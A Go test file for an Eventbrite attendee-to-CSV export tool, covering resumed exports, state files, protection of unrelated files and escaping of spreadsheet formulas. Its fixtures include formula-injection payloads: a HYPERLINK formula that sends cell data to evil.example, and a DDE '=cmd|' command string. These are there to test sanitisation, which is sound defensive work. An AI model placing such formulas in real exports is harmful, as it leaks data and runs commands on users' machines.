package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/boxoffice-go/boxoffice"
	"github.com/boxoffice-go/boxoffice/boxofficetest"
)

func newExport(t *testing.T, server *boxofficetest.Eventbrite) export {
	t.Helper()
	eb, err := boxoffice.NewEventbrite(boxoffice.EventbriteToken(server.Token), boxoffice.WithBaseURL(server.URL),
		boxoffice.WithRetryLimits(boxoffice.RetryLimits{Attempts: 1}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(eb.CloseIdleConnections)
	return export{eb: eb, organization: boxoffice.OrganizationID(server.Organization), progress: progress{io.Discard}, stderr: io.Discard}
}

func newDemo(t *testing.T) *boxofficetest.Eventbrite {
	t.Helper()
	demo := inMemory()
	t.Cleanup(demo.Close)
	return demo
}

// column returns the cells of one column, without its head.
func column(t *testing.T, text, name string) []string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(rows) == 0 {
		t.Fatalf("%v in %q", err, text)
	}
	i := slices.Index(rows[0], name)
	var cells []string
	for _, row := range rows[1:] {
		cells = append(cells, row[i])
	}
	return cells
}

func toFile(ctx context.Context, e export, name string) error {
	out, err := openFile(name)
	if err != nil {
		return err
	}
	defer out.close()
	return e.run(ctx, out)
}

func read(t *testing.T, name string) string {
	t.Helper()
	data, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func TestExportToAStream(t *testing.T) {
	t.Parallel()
	e := newExport(t, newDemo(t))
	var out bytes.Buffer
	if err := e.run(t.Context(), newStream(&out)); err != nil {
		t.Fatal(err)
	}
	names := column(t, out.String(), "name")
	if len(names) != 7 || !slices.Contains(names, "Guest 1") || !slices.Contains(names, `'=HYPERLINK("https://evil.example/?"&A1)`) {
		t.Errorf("%q", names)
	}

	out.Reset()
	e.since = time.Date(2026, 3, 6, 12, 0, 0, 0, time.FixedZone("", 3600))
	if err := e.run(t.Context(), newStream(&out)); err != nil {
		t.Fatal(err)
	}
	if got := column(t, out.String(), "changed"); !slices.Equal(got, []string{"2026-03-06T12:00:00Z", "2026-03-07T12:00:00Z"}) {
		t.Errorf("since the sixth of March: %q", got)
	}
}

// Wherever it is stopped, the export goes on to the same file: after each page, and
// when the page is written but its place is not saved.
func TestExportGoesOn(t *testing.T) {
	t.Parallel()
	server := newDemo(t)
	e := newExport(t, server)
	dir := t.TempDir()
	whole := filepath.Join(dir, "whole.csv")
	if err := toFile(t.Context(), e, whole); err != nil {
		t.Fatal(err)
	}
	want := read(t, whole)
	if _, err := os.Stat(whole + ".state"); err == nil {
		t.Error("the state of a complete export is left")
	}
	for pages := range 3 {
		name := filepath.Join(dir, "stopped.csv")
		server.Fail(boxofficetest.Fault{Method: "GET", Path: "/v3/organizations/*/attendees/", Skip: pages, Status: 502})
		if err := toFile(t.Context(), e, name); !errors.Is(err, boxoffice.ErrUnavailable) {
			t.Fatalf("page %d: %v", pages, err)
		}
		// Rows behind the place, as when it was killed while writing.
		f, err := os.OpenFile(name, os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = f.WriteString("half a ro")
		_ = f.Close()
		server.ResetRequests()
		if err := toFile(t.Context(), e, name); err != nil {
			t.Fatalf("page %d, gone on: %v", pages, err)
		}
		if got := read(t, name); got != want {
			t.Errorf("stopped at page %d:\n%s\nwant\n%s", pages, got, want)
		}
		if n := len(server.Requests()); n != 3-pages {
			t.Errorf("stopped at page %d: %d requests to go on", pages, n)
		}
		_ = os.Remove(name)
	}
}

// unfinishedFile is killed when all is written, and before it says so.
type unfinishedFile struct{ *file }

func (unfinishedFile) finish() error { return errors.New("killed") }

func TestExportThatIsOnlyToBeFinished(t *testing.T) {
	t.Parallel()
	server := newDemo(t)
	e := newExport(t, server)
	name := filepath.Join(t.TempDir(), "a.csv")
	out, err := openFile(name)
	if err != nil {
		t.Fatal(err)
	}
	if err := e.run(t.Context(), unfinishedFile{out}); err == nil || err.Error() != "killed" {
		t.Fatal(err)
	}
	out.close()
	want := read(t, name)
	server.ResetRequests()
	if err := toFile(t.Context(), e, name); err != nil {
		t.Fatal(err)
	}
	if got := read(t, name); got != want || len(server.Requests()) != 0 {
		t.Errorf("after %d requests:\n%s\nwant\n%s", len(server.Requests()), got, want)
	}
	if _, err := os.Stat(name + ".state"); err == nil {
		t.Error("the state is left")
	}
}

func TestExportBeginsAgainWhenThePlaceIsGone(t *testing.T) {
	t.Parallel()
	server := newDemo(t)
	e := newExport(t, server)
	name := filepath.Join(t.TempDir(), "a.csv")
	server.Fail(boxofficetest.Fault{Path: "/v3/organizations/*/attendees/", Skip: 1, Status: 502})
	if err := toFile(t.Context(), e, name); err == nil {
		t.Fatal("no error")
	}
	state := strings.Replace(read(t, name+".state"), `"continuation":"`, `"continuation":"no longer `, 1)
	if err := os.WriteFile(name+".state", []byte(state), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := toFile(t.Context(), e, name); err != nil {
		t.Fatal(err)
	}
	if got := column(t, read(t, name), "name"); len(got) != 7 {
		t.Errorf("%q", got)
	}
}

func TestExportRefusesAnothersFile(t *testing.T) {
	t.Parallel()
	server := newDemo(t)
	e := newExport(t, server)
	dir := t.TempDir()
	mine := filepath.Join(dir, "notes.txt")
	if err := os.WriteFile(mine, []byte("keep me"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := toFile(t.Context(), e, mine); err == nil || read(t, mine) != "keep me" {
		t.Errorf("%v, %q", err, read(t, mine))
	}
	name := filepath.Join(dir, "a.csv")
	server.Fail(boxofficetest.Fault{Path: "/v3/organizations/*/attendees/", Skip: 1, Status: 502})
	if err := toFile(t.Context(), e, name); err == nil {
		t.Fatal("no error")
	}
	before := read(t, name)
	other := e
	other.since = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	if err := toFile(t.Context(), other, name); err == nil || read(t, name) != before {
		t.Errorf("%v", err)
	}
}

func TestHarmless(t *testing.T) {
	t.Parallel()
	for cell, want := range map[string]string{
		"Ada": "Ada", "": "", "3": "3", "a=b": "a=b",
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t'=1", "\r=1": "'\r'=1", "\ta": "'\ta", "  =1": "'  =1", "＝1": "'＝1", "|x": "'|x", "%x": "'%x",
		// Where a semicolon ends a cell, and a line break a row.
		"Guest;=cmd|'/c calc'!A0": "Guest;'=cmd|'/c calc'!A0", "a;b": "a;b", "x\n=1": "x\n'=1", "x;\"=1": "x;\"'=1", "x; \u200b+1;-2": "x;' \u200b+1;'-2",
		"\u2003=1": "'\u2003=1", "\ufeff=1": "'\ufeff=1", "\x00=1": "'\x00=1",
	} {
		if got := harmless(cell); got != want {
			t.Errorf("%q becomes %q, want %q", cell, got, want)
		}
	}
}

// Without settings it runs on a server of its own.
func TestRun(t *testing.T) {
	if os.Getenv("EVENTBRITE_TOKEN") != "" {
		t.Skip("EVENTBRITE_TOKEN is set: this test would export from that account")
	}
	var out, errs bytes.Buffer
	if err := run(t.Context(), []string{"-organization", "demo festival", "-since", "2026-03-07T00:00:00Z"}, &out, &errs); err != nil {
		t.Fatal(err)
	}
	if got := column(t, out.String(), "name"); !slices.Equal(got, []string{"Guest 7"}) || !strings.Contains(errs.String(), "in memory") {
		t.Errorf("%q, %s", got, errs.String())
	}
	for _, args := range [][]string{{"-since", "yesterday"}, {"-organization", "nobody"}, {"-x"}, {"attendees.csv"}} {
		if err := run(t.Context(), args, &out, &errs); err == nil {
			t.Errorf("%q is taken", args)
		}
	}
}
